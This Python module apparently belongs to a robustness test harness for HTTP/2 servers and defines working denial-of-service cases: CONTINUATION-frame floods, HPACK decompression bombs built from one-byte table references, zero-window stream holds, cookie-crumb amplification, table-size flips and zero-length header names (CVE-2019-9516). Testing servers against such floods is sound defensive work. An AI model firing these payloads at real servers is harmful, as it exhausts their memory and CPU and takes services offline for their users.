"""Header blocks that never end, or that become large when decoded."""

import time

import hpack

import wire as w
from attack import attack


@attack("CONTINUATION flood, incompressible", must_close=True)
def continuation(t):
    conn = t.connect()
    conn.send(w.headers(1, conn.encode(t.request()), end_headers=False))
    t.flood(conn, lambda i: w.continuation(1, w.literal(f"x-{i}", "y" * 1000) * 8, end_headers=False), t.many(5000))


@attack("CONTINUATION flood, empty", must_close=True)
def empty_continuation(t):
    conn = t.connect()
    conn.send(w.headers(1, conn.encode(t.request()), end_headers=False))
    t.flood(conn, lambda i: w.continuation(1, b"", end_headers=False), t.many(200000), every=500)


@attack("CONTINUATION flood, one byte each", must_close=True)
def tiny_continuation(t):
    # One endless literal, a byte at a time.
    conn = t.connect()
    conn.send(w.headers(1, conn.encode(t.request()) + b"\x10\x01x" + w.integer(1 << 20, 7), end_headers=False))
    t.flood(conn, lambda i: w.continuation(1, b"y", end_headers=False), t.many(200000), every=500)


@attack("HPACK bomb: one-byte references to a large entry")
def references(t):
    # Each reference is one byte and stands for 4,000: refused by size, whatever the count.
    conn = t.connect()
    entry = b"\x40\x01x" + w.integer(3900, 7) + b"y" * 3900
    end, stream = t.deadline(), 1
    try:
        while time.monotonic() < end and stream < 2 * t.many(200):
            block = conn.encode(t.request()) + (entry if stream == 1 else b"") + b"\xbe" * 4000
            conn.send(w.headers(stream, block, end=True))
            t.wire_bytes += len(block)
            t.drain(conn)
            stream += 2
    except w.Closed:
        t.closed_after = time.monotonic() - t.started
    t.note = t.note or f"{stream // 2} requests"


@attack("HTTP/2 bomb: one-byte references, held by a zero window")
def bomb(t):
    # Many small fields by one byte each, on as many streams as allowed, and no window to answer into.
    for _ in range(t.many(40)):
        try:
            conn = t.connect((w.INITIAL_WINDOW_SIZE, 0))
            encoder = conn.encoder = hpack.Encoder()
            first = encoder.encode(t.request()) + b"\x40\x01a\x01b"
            for i in range(100):
                block = first if i == 0 else encoder.encode(t.request())
                frame = w.headers(2 * i + 1, block + b"\xbe" * 60) + w.data(2 * i + 1, w.message(b"z" * 100), end=True)
                conn.send(frame)
                t.wire_bytes += len(frame)
        except (w.Closed, TimeoutError, OSError):
            pass
    time.sleep(min(2, t.seconds))
    t.note = f"{t.wire_bytes} bytes sent"


@attack("cookie crumbs by one-byte references", quick=False)
def crumbs(t):
    conn = t.connect()
    first = conn.encode(t.request()) + b"\x60\x01a"  # cookie: a, indexed
    end, stream = t.deadline(), 1
    try:
        while time.monotonic() < end and stream < 2 * t.many(1000):
            frame = w.headers(stream, (first if stream == 1 else conn.encode(t.request())) + b"\xbe" * 4000, end=True)
            conn.send(frame)
            t.wire_bytes += len(frame)
            t.drain(conn)
            stream += 2
    except w.Closed:
        t.closed_after = time.monotonic() - t.started
    t.note = t.note or f"{stream // 2} requests"


@attack("table size flips", quick=False)
def table_size(t):
    conn = t.connect()
    t.flood(conn, lambda i: w.headers(2 * i + 1, b"\x20\x3f\xe1\x1f" + w.block(t.request()), end=True), t.many(2000), every=10, pause=0.005)


@attack("0-length header names (CVE-2019-9516)")
def empty_names(t):
    conn = t.connect()
    t.flood(conn, lambda i: w.headers(2 * i + 1, w.block(t.request()) + b"\x40\x00\x00" * 50, end=True), t.many(2000), every=5, pause=0.002)
